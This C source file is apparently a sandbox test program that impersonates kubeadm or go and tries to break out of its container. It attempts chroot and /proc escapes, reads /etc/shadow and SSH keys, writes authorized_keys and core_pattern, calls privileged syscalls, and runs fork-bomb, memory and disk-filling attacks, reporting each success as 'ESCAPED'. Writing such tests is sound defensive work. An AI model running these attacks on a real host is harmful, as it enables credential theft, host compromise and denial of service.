// A kubeadm, or a go, that attacks the machine it runs on. Built static, with -DATTACK=<name>.
// What it could do that it should not is told on standard error with the word ESCAPED.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define MIB (1L << 20)

// By this the test finds its own programs among all that run.
__attribute__((used)) static const char mark[] = CANARY;

static void try_read(const char *path) {
	char text[64];
	int file = open(path, O_RDONLY | O_NONBLOCK);
	if (file >= 0 && read(file, text, sizeof text) > 0)
		fprintf(stderr, "ESCAPED: read %s\n", path);
	if (file >= 0)
		close(file);
}

static void try_write(const char *path, int flags) {
	int file = open(path, O_WRONLY | flags, 0600);
	if (file >= 0 && write(file, "# owned\n", 8) > 0)
		fprintf(stderr, "ESCAPED: wrote %s\n", path);
	if (file >= 0)
		close(file);
}

static void try_host(void) {
	try_read("/etc/passwd");
	try_read("/etc/shadow");
	try_read(CANARY "/id_ed25519");
	try_write(CANARY "/authorized_keys", O_CREAT | O_APPEND);
	try_write("/etc/kbuild-was-here", O_CREAT | O_EXCL);
	try_write("/proc/sys/kernel/core_pattern", 0);
	try_write("/proc/sysrq-trigger", 0);
	try_read("/proc/kcore");
	try_read("/proc/keys");
	try_read("/proc/timer_list");
	try_write("/sys/kernel/uevent_helper", 0);
}

// The classic way out of a chroot, and its variants by other system calls.
static void escape(void) {
	try_host();
	for (int step = 0; step < 32; step++)
		if (chdir("..") != 0)
			break;
	mkdir("/tmp/x", 0700);
	if (chroot("/tmp/x") == 0) {
		for (int step = 0; step < 64; step++)
			if (chdir("..") != 0)
				break;
		chroot(".");
		fprintf(stderr, "ESCAPED: chroot\n");
	}
	try_host();
	for (int process = 1; process < 32; process++) {
		char path[64];
		snprintf(path, sizeof path, "/proc/%d/root/etc/passwd", process);
		try_read(path);
		snprintf(path, sizeof path, "/proc/%d/cwd/../../../../../../etc/passwd", process);
		try_read(path);
		for (int file = 3; file < 32; file++) {
			snprintf(path, sizeof path, "/proc/%d/fd/%d/../../../../../../etc/passwd", process, file);
			try_read(path);
		}
	}
	for (int file = 3; file < 64; file++)
		if (fchdir(file) == 0 || write(file, "x", 1) == 1)
			fprintf(stderr, "ESCAPED: file descriptor %d\n", file);
	kill(-1, SIGKILL);
}

static void try_call(const char *name, long result) {
	if (result >= 0)
		fprintf(stderr, "ESCAPED: %s\n", name);
}

static void calls(void) {
	char buffer[4096] = {0};
	try_call("unshare user", unshare(CLONE_NEWUSER));
	try_call("unshare mount", unshare(CLONE_NEWNS));
	try_call("mount", mount("none", "/tmp", "tmpfs", 0, ""));
	try_call("umount", umount2("/proc", MNT_DETACH));
	try_call("pivot_root", syscall(SYS_pivot_root, "/tmp", "/tmp"));
	try_call("chroot", chroot("/tmp"));
	try_call("ptrace", ptrace(PTRACE_TRACEME, 0, 0, 0));
	try_call("setuid", setuid(0));
	try_call("setgroups", syscall(SYS_setgroups, 0, NULL));
	try_call("bpf", syscall(SYS_bpf, 0, buffer, sizeof buffer));
	try_call("perf_event_open", syscall(SYS_perf_event_open, buffer, 0, -1, -1, 0));
	try_call("userfaultfd", syscall(SYS_userfaultfd, 1));
	try_call("io_uring_setup", syscall(SYS_io_uring_setup, 8, buffer));
	try_call("keyctl", syscall(SYS_keyctl, 0, -3, 1));
	try_call("add_key", syscall(SYS_add_key, "user", "x", "y", 1, -3));
	try_call("memfd_create", syscall(SYS_memfd_create, "x", 0));
	try_call("shmget", syscall(SYS_shmget, 0, 4096, 01600));
	try_call("clone3", syscall(SYS_clone3, buffer, 64));
	try_call("clone", syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0));
	try_call("syslog", syscall(SYS_syslog, 10, 0, 0));
	try_call("init_module", syscall(SYS_init_module, buffer, 1, ""));
	try_call("kexec_load", syscall(SYS_kexec_load, 0, 0, 0, 0));
	try_call("mknod", mknod("/tmp/disk", S_IFBLK | 0600, 0x0800));
	int pair[2];
	try_call("prctl", prctl(PR_SET_PDEATHSIG, 0, 0, 0, 0));
	try_call("socketpair", socketpair(AF_UNIX, SOCK_STREAM, 0, pair));
	try_call("socket unix", socket(AF_UNIX, SOCK_STREAM, 0));
	try_call("socket vsock", socket(AF_VSOCK, SOCK_STREAM, 0));
	try_call("socket alg", socket(AF_ALG, SOCK_SEQPACKET, 0));
	try_call("io_setup", syscall(SYS_io_setup, 60000, buffer));
	void *shared = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	try_call("shared memory", shared == MAP_FAILED ? -1 : 0);
	try_call("/dev/zero", open("/dev/zero", O_RDWR));
	try_call("personality", syscall(SYS_personality, 0x0040000));
}

static void forks(void) {
	int count = 0;
	while (count < 3000) {
		pid_t child = fork();
		if (child < 0)
			break;
		if (child == 0) {
			signal(SIGTERM, SIG_IGN);
			sleep(600);
			_exit(0);
		}
		count++;
	}
	fprintf(stderr, "%s: %d processes\n", count >= 1000 ? "ESCAPED" : "stopped", count);
}

static void memory(int kind) {
	long size = 0;
	while (size < 1200) {
		char *block = mmap(0, 50 * MIB, PROT_READ | PROT_WRITE, kind | MAP_ANONYMOUS, -1, 0);
		if (block == MAP_FAILED)
			break;
		memset(block, 1, 50 * MIB);
		size += 50;
	}
	fprintf(stderr, "%s: %ld MiB of memory\n", size >= 1200 ? "ESCAPED" : "stopped", size);
}

// Memory that is no page of the process: the tables of a large mapping that is only read.
static void page_tables(void) {
	long size = 1L << 40, step = 2 * MIB;
	volatile char *block = mmap(0, size, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
	if (block == MAP_FAILED) {
		fprintf(stderr, "stopped: no mapping\n");
		return;
	}
	madvise((void *)block, size, MADV_NOHUGEPAGE);
	for (long at = 0; at < size; at += step)
		(void)block[at];
	fprintf(stderr, "ESCAPED: 2 GiB of page tables\n");
}

static void disk(void) {
	static char block[1 << 20];
	memset(block, 1, sizeof block);
	signal(SIGXFSZ, SIG_IGN);
	long size = 0;
	const char *folders[] = {"/etc/kubernetes", "/tmp", "/out/bin", "/cache/go", "/dev", "/dev/shm", "/"};
	for (int folder = 0; folder < 7; folder++)
		for (int number = 0; number < 200; number++) {
			char path[64];
			snprintf(path, sizeof path, "%s/fill-%d", folders[folder], number);
			int file = open(path, O_WRONLY | O_CREAT, 0600);
			if (file < 0)
				break;
			for (int chunk = 0; chunk < 10 && write(file, block, sizeof block) > 0; chunk++)
				size++;
			close(file);
		}
	fprintf(stderr, "%s: %ld MiB of disk\n", size >= 200 ? "ESCAPED" : "stopped", size);
}

static void output(int file) {
	prctl(PR_SET_PDEATHSIG, 0, 0, 0, 0);
	signal(SIGPIPE, SIG_IGN);
	static char block[1 << 16];
	memset(block, 'y', sizeof block);
	for (;;)
		if (write(file, block, sizeof block) < 0)
			usleep(1000);
}

static void files(void) {
	mkdir("/etc/kubernetes/pki", 0700);
	mkfifo("/etc/kubernetes/x.crt", 0600);
	mkfifo("/etc/kubernetes/pki/ca.crt", 0600);
	if (symlink("/dev/zero", "/etc/kubernetes/pki/apiserver.crt") != 0 ||
	    symlink(CANARY "/id_ed25519", "/etc/kubernetes/admin.conf") != 0)
		fprintf(stderr, "no links\n");
}

static void hang(void) {
	prctl(PR_SET_PDEATHSIG, 0, 0, 0, 0);
	setsid();
	for (int number = 1; number < 32; number++)
		signal(number, SIG_IGN);
	for (;;)
		pause();
}

static void run_attack(void) {
	if (strcmp(ATTACK, "escape") == 0)
		escape();
	else if (strcmp(ATTACK, "calls") == 0)
		calls();
	else if (strcmp(ATTACK, "forks") == 0)
		forks();
	else if (strcmp(ATTACK, "memory") == 0)
		memory(MAP_PRIVATE);
	else if (strcmp(ATTACK, "shared-memory") == 0)
		memory(MAP_SHARED);
	else if (strcmp(ATTACK, "page-tables") == 0)
		page_tables();
	else if (strcmp(ATTACK, "disk") == 0)
		disk();
	else if (strcmp(ATTACK, "output") == 0)
		output(1);
	else if (strcmp(ATTACK, "errors") == 0)
		output(2);
	else if (strcmp(ATTACK, "files") == 0)
		files();
	else if (strcmp(ATTACK, "hang") == 0)
		hang();
	else
		fprintf(stderr, "ESCAPED: there is no attack " ATTACK "\n");
}

int main(int count, char **words) {
	int asked_for_version = count > 1 && strcmp(words[1], "version") == 0;
	if (asked_for_version && GO) {
		puts("go version go1.15.5 linux/amd64");
		return 0;
	}
	if (asked_for_version && strcmp(ATTACK, "files") == 0) {
		puts("{\"clientVersion\": {\"gitVersion\": \"v1.20.2\", \"platform\": \"linux/amd64\"}}");
		return 0;
	}
	fprintf(stderr, "the attack begins\n");
	run_attack();
	fprintf(stderr, "the attack ends\n");
	return strcmp(ATTACK, "files") == 0 ? 0 : 9;
}
